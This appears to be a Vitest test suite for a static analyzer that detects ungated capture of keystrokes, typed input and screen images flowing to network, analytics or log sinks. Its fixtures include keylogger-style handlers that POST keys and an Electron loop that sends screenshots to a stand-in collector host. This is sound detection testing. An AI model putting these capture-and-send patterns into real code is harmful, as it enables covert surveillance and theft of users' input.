/** Content goes where it goes, and not where a neighbour of the same shape goes. */
import { describe, expect, it } from 'vitest';
import { type Program, findingsOf, sinksOf } from '../support/review.js';

type Case = [title: string, program: Program, ...sinks: string[]];

const post = (value: string): string => `fetch('/k', { method: 'POST', body: ${value} })`;

describe('two handlers that share one wrapper', () => {
  const wrapped = (wrapper: string, first: string, second: string): Program =>
    `${wrapper}\nlet count = 0;\ndocument.addEventListener('keydown', wrap(${first}));\nwindow.addEventListener('focus', wrap(${second}));\nconsole.log(count);`;
  const ARROW = 'const wrap = (handler: (e: any) => void) => (e: any) => handler(e);';
  const OLD = 'function wrap(handler) { return function () { handler.apply(this, arguments); }; }';
  const NESTED = `const inner = (handler: (e: any) => void) => (e: any) => handler(e);\nconst wrap = (handler: (e: any) => void) => inner(handler);`;
  const COUNT = '() => { count += 1; }';
  const SEND = `(e) => ${post('e.key')}`;
  it.each<Case>([
    ['the one for keys sends', wrapped(ARROW, SEND, COUNT), 'network a.ts:3'],
    ['the other one sends', wrapped(ARROW, COUNT, SEND)],
    ['through arguments, the one for keys sends', wrapped(OLD, SEND, COUNT), 'network a.ts:3'],
    ['through arguments, the other one sends', wrapped(OLD, COUNT, SEND)],
    ['through two wrappers, the one for keys sends', wrapped(NESTED, SEND, COUNT), 'network a.ts:4'],
    ['through two wrappers, the other one sends', wrapped(NESTED, COUNT, SEND)],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('two callers of one function', () => {
  const RECURSIVE = `function pathOf(node: any): string { return node.parentElement ? pathOf(node.parentElement) + '/' + node.textContent : ''; }`;
  const CLOSURE = `function pathOf(node: any): string {\n  let path = '';\n  node.classList.forEach((name: string) => { path += name; });\n  return path;\n}`;
  const callers = (helper: string, sent: string): Program =>
    `${helper.replaceAll('\n', ' ')}\ndocument.addEventListener('click', (e) => { const here = pathOf(e.target); if (here === '') return; });\nwindow.addEventListener('focus', (e) => { const there = pathOf(document.body); ${post(sent)}; });`;
  const own = (helper: string): Program =>
    `${helper.replaceAll('\n', ' ')}\ndocument.addEventListener('click', (e) => { const here = pathOf(e.target); ${post('here')}; });`;
  it.each<Case>([
    ['that calls itself: the one that sends', own(RECURSIVE), 'network a.ts:2'],
    ['that calls itself: the other one', callers(RECURSIVE, 'there')],
    ['that collects in a callback: the one that sends', own(CLOSURE), 'network a.ts:2'],
    ['that collects in a callback: the other one', callers(CLOSURE, 'there')],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('state of a module', () => {
  const state = (read: string): Program => ({
    'state.ts': 'export let keys: string[] = [];\nexport let clicks: string[] = [];',
    'a.ts': `import * as state from './state';\ndocument.addEventListener('keydown', (e) => state.keys.push(e.key));`,
    'flush.ts': `import * as state from './state';\nsetInterval(() => ${post(`JSON.stringify(${read})`)}, 1000);\nexport {};`,
    'main.ts': `import './a';\nimport './flush';`,
  });
  it.each<Case>([
    ['read through its namespace', state('state.keys'), 'network flush.ts:2'],
    ['read through its namespace, another variable', state('state.clicks')],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('lists under a key', () => {
  const lists = (read: string): Program =>
    `const byTab: Record<string, string[]> = {};\nconst other: Record<string, string[]> = {};\nexport function start(tab: string) {\n  byTab[tab] = [];\n  document.addEventListener('keydown', (e) => byTab[tab].push(e.key));\n}\nstart('1');\nsetInterval(() => ${post(`JSON.stringify(${read})`)}, 1000);`;
  it.each<Case>([
    ['all of them', lists('byTab'), 'network a.ts:8'],
    ['those of another map', lists('other')],
    ['how many', lists('Object.keys(byTab).length')],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('the name of a sensor is kept elsewhere', () => {
  const HANDLER = `(e: KeyboardEvent) => ${post('e.key')}`;
  const enumeration = (file: string, event: string): Program => ({
    [file]: `export const enum Name { Listen = 'addEventListener', Key = '${event}' }`,
    'a.ts': `import { Name } from './names';\ndocument[Name.Listen](Name.Key, ${HANDLER});`,
  });
  const wrapper = (event: string): Program => ({
    'events.ts': `export function on(type: string, handler: (e: any) => void) { document.addEventListener(type, handler); }\ndocument.addEventListener('paste', () => {});`,
    'a.ts': `import { on } from './events';\non('${event}', ${HANDLER});`,
  });
  it.each<Case>([
    ['in a constant', enumeration('names.ts', 'keydown'), 'network a.ts:2'],
    ['in a constant, and is that of another event', enumeration('names.ts', 'visibilitychange')],
    ['in a declaration file', enumeration('names.d.ts', 'keydown'), 'network a.ts:2'],
    ['in a declaration file, and is that of another event', enumeration('names.d.ts', 'visibilitychange')],
    ['by whoever calls a wrapper of another file', wrapper('resize')],
    ['by whoever calls a wrapper of another file, of keys', wrapper('keydown'), 'network a.ts:2'],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));

  it('each caller of a wrapper is a capture of its own', async () => {
    const program = {
      'events.ts': `export function on(type: string, handler: (e: any) => void) { document.addEventListener(type, handler); }`,
      'a.ts': `import { on } from './events';\non('keydown', ${HANDLER});\non('keyup', () => {});\non('input', (e) => ${post('e.data')});`,
    };
    const lines = (await findingsOf(program)).filter((line) => line.includes('ungated'));
    expect(lines).toEqual(['error ungated-capture a.ts:2', 'error ungated-capture a.ts:4']);
  });
});

describe('a function that is called by a computed name', () => {
  const commands = (called: string): Program => ({
    'commands.ts': `export function start() { document.addEventListener('keydown', (e) => ${post('e.key')}); }\nexport function stop() {}`,
    'package.json': JSON.stringify({ name: 'sdk', main: 'main.js' }),
    'main.ts': `import * as commands from './commands';\nconst queue = (window as any).queue as string[];\nqueue.forEach((name) => ${called});`,
  });
  it.each<[string, Program, string]>([
    ['may be this one', commands(`(commands as any)[name]()`), 'error'],
    ['is another one', commands('commands.stop()'), 'warning'],
  ])('%s', async (_, program, severity) => {
    expect(await findingsOf(program)).toContain(`${severity} ungated-capture commands.ts:1`);
  });
});

describe('a package that no model describes', () => {
  const client = (call: string, module = 'acme-client'): Program =>
    `import { Client } from '${module}';\nconst client = new Client();\ndocument.addEventListener('keydown', (e) => client.activity.${call});`;
  it.each<Case>([
    ['and says by its name that it sends', client('pushKeyUpdate(e.key)'), 'network a.ts:3'],
    ['and does something else', client('highlightKey(e.key)')],
    ['and is handed no content', client('pushKeyUpdate(e.timeStamp)')],
    [
      'but can be read',
      {
        'a.ts': client('pushKeyUpdate(e.key)', './client') as string,
        'client.ts': 'export class Client { activity = { pushKeyUpdate(key: string) { return key.length; } }; }',
      },
    ],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('a global that the file declares', () => {
  const declared = (declaration: string, use: string): Program =>
    `${declaration}\ndocument.addEventListener('keydown', (e) => ${use});`;
  const SEND = `gtag('event', 'key', { value: e.key })`;
  it.each<Case>([
    ['as a constant', declared('declare const gtag: any;', SEND), 'analytics a.ts:2'],
    ['as a variable', declared('declare var gtag: (...args: unknown[]) => void;', SEND), 'analytics a.ts:2'],
    ['as a function', declared('declare function gtag(...args: unknown[]): void;', SEND), 'analytics a.ts:2'],
    ['of a type from nowhere', declared('declare const gtag: Gtag.Gtag;', SEND), 'analytics a.ts:2'],
    ['and is a variable after all', declared('const gtag = (..._: unknown[]) => {};', SEND)],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('a log behind a debug switch', () => {
  const logged = (test: string, on = 'field'): Program =>
    `const field = document.querySelector('input')!;\nconst logger = { logLevel: 1, ready: true };\n${on}.addEventListener('input', (e) => { if (${test}) console.log((e as InputEvent).data); });`;
  it.each<Case>([
    ['of one field', logged('logger.logLevel <= 0')],
    ['of one field, behind another switch', logged('logger.ready'), 'log a.ts:3'],
    [
      'of the page',
      `const logger = { logLevel: 1 };\ndocument.addEventListener('keydown', (e) => { if (logger.logLevel <= 0) console.log(e.key); });`,
      'log a.ts:2',
    ],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('what is typed into one field is logged', () => {
  const onKey = (body: string, before = ''): Program =>
    `const field = document.querySelector('input')!;\n${before}\nfield.addEventListener('keydown', (e) => { ${body} });`;
  it.each<Case>([
    [
      'out of a map of the handler',
      onKey(`const m = new Map(); m.set('a', e.key); console.log(m.get('a'));`),
      'log a.ts:3',
    ],
    ['out of a map that stays', onKey(`m.set('a', e.key); console.log(m.get('a'));`, 'const m = new Map();')],
    ['out of a record of the handler', onKey(`const r = { at: 1 }; r.key = e.key; console.log(r.key);`), 'log a.ts:3'],
    ['out of a record that stays', onKey(`r.key = e.key; console.log(r.key);`, 'const r = { at: 1 };')],
    [
      'out of what a record was copied to',
      onKey(`const r = Object.assign({}, { key: e.key }); console.log(r.key);`),
      'log a.ts:3',
    ],
    [
      'out of what stays and was copied to',
      onKey(`Object.assign(r, { key: e.key }); console.log(r.key);`, 'const r = {};'),
    ],
    [
      'out of a list that stays, by a list of the handler',
      onKey(`const l = []; l.push(e.key); all.push(l); console.log(all[0]);`, 'const all = [];'),
    ],
  ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
});

describe('an address that holds what it shows', () => {
  const pixels = (use: string): string => `import { desktopCapturer } from 'electron';
    const pixel = new Image();
    async function look() {
      const [screen] = await desktopCapturer.getSources({ types: ['screen'] });
      const picture = screen.thumbnail.toDataURL();
      ${use}
    }
    setInterval(look, 5000);`;
  const typed = (use: string): string =>
    `const pixel = new Image();\ndocument.addEventListener('keydown', (event) => { ${use} });`;

  it.each<Case>([
    ['asks nobody', pixels('pixel.src = picture;')],
    ['asks nobody, spelt out', pixels('pixel.src = `data:image/png;base64,${picture}`;')],
    ['asks nobody when it is read', pixels('const blob = await (await fetch(picture)).blob();')],
    ['is no part of another', pixels('pixel.src = `https://collector.example.invalid?${picture}`;'), 'network a.ts:6'],
    ['is no body', pixels(`await fetch('/screens', { method: 'POST', body: picture });`), 'network a.ts:6'],
    ['asks nobody for a text', typed("pixel.src = 'data:text/plain,' + event.key;")],
    ['asks for a text that is the address', typed('pixel.src = event.key;'), 'network a.ts:2'],
  ])('%s', async (_, program, ...sinks) => {
    expect(await sinksOf(program)).toEqual(sinks);
  });
});
